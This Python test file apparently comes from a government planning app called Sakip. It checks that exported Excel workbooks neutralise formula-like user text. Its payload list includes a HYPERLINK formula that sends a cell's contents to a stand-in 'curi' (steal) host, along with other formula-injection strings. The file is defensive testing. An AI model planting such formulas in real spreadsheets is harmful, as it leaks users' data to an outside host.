"""Every workbook Sakip writes keeps user text as text: no live formula, on any door."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from sakip.impor.baca_buku import baca
from sakip.impor.buku import ekspor
from sakip.laporan.api import render_e81
from sakip.laporan.xlsx_aman import simpan_buku
from sakip.organisasi.models import Unit
from sakip.perencanaan.models import Indikator

pytestmark = pytest.mark.django_db

PD, TAHUN = "kecamatan-mojosari", 2025
JAHAT = ['=HYPERLINK("http://contoh.invalid/curi?d="&A1,"klik")', "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=2"]


# The only formulas Sakip writes itself: the Anggaran Kas check column (Jumlah Kas, Selisih).
RUMUS_SAKIP = re.compile(rb"SUM\(I(\d+):L\1\)|D(\d+)-M\2")


def _tanpa_rumus(data: bytes) -> None:
    """No sheet part holds a formula but Sakip's own check column: no user text is calculated."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for nama in zf.namelist():
            if nama.startswith("xl/worksheets/"):
                for isi in re.findall(rb"<f(?: [^>]*)?>([^<]*)</f>|<f[ >/]", zf.read(nama)):
                    assert RUMUS_SAKIP.fullmatch(isi), (nama, isi)


def _sel_teks(data: bytes, teks: list[str]) -> dict[str, tuple[str, bool]]:
    """data_type and quotePrefix of the cells holding each text, read back with openpyxl."""
    ketemu: dict[str, tuple[str, bool]] = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in teks:
                    ketemu[c.value] = (c.data_type, bool(c.quotePrefix))
    return ketemu


def test_helper_turns_formula_like_text_into_text(tmp_path: Path) -> None:
    wb = Workbook()
    for i, t in enumerate(JAHAT, start=1):
        wb.active.cell(i, 1, t)
    wb.active.cell(len(JAHAT) + 1, 1, "biasa")
    wb.active.cell(len(JAHAT) + 2, 1, -3)  # a negative number stays a number
    assert wb.active["A1"].data_type == "f"  # what openpyxl would write without the helper
    path = tmp_path / "a.xlsx"
    simpan_buku(wb, path)
    data = path.read_bytes()
    _tanpa_rumus(data)
    assert _sel_teks(data, JAHAT) == {t: ("s", True) for t in JAHAT}
    ws = load_workbook(path).active
    assert ws.cell(len(JAHAT) + 1, 1).quotePrefix is False
    assert ws.cell(len(JAHAT) + 2, 1).value == -3 and ws.cell(len(JAHAT) + 2, 1).data_type == "n"


@pytest.fixture
def nama_jahat() -> list[Indikator]:
    """Indicator names typed as formulas (set directly: this is the test's set-up, not a write path)."""
    inds = list(Indikator.objects.filter(unit__slug=PD).order_by("pk")[: len(JAHAT)])
    for ind, t in zip(inds, JAHAT, strict=True):
        Indikator.objects.filter(pk=ind.pk).update(nama=t)
    return inds


def test_pd_workbook_writes_names_as_text_and_reimports_unchanged(nama_jahat: list[Indikator],
                                                                 tmp_path: Path) -> None:
    unit = Unit.objects.get(slug=PD)
    path = ekspor([unit], TAHUN, tmp_path / "m.xlsx")
    data = path.read_bytes()
    _tanpa_rumus(data)
    ketemu = _sel_teks(data, JAHAT)
    assert ketemu and all(v == ("s", True) for v in ketemu.values()), ketemu
    assert ketemu.keys() >= {JAHAT[0], "+1", "-2", "@SUM(A1)"}
    # Our own export comes back as the same text: no error, no change.
    p = baca(path, unit, TAHUN)
    assert p.sah and p.perubahan == [], p.galat


def test_e81_writes_names_as_text() -> None:
    for i, pk in enumerate(Indikator.objects.filter(unit__slug=PD).order_by("pk").values_list("pk", flat=True)):
        Indikator.objects.filter(pk=pk).update(nama=JAHAT[i % len(JAHAT)])
    data = render_e81(Unit.objects.get(slug=PD), TAHUN, tanggal=date(2026, 1, 30))
    _tanpa_rumus(data)
    ketemu = _sel_teks(data, JAHAT)
    assert ketemu and all(v == ("s", True) for v in ketemu.values()), ketemu
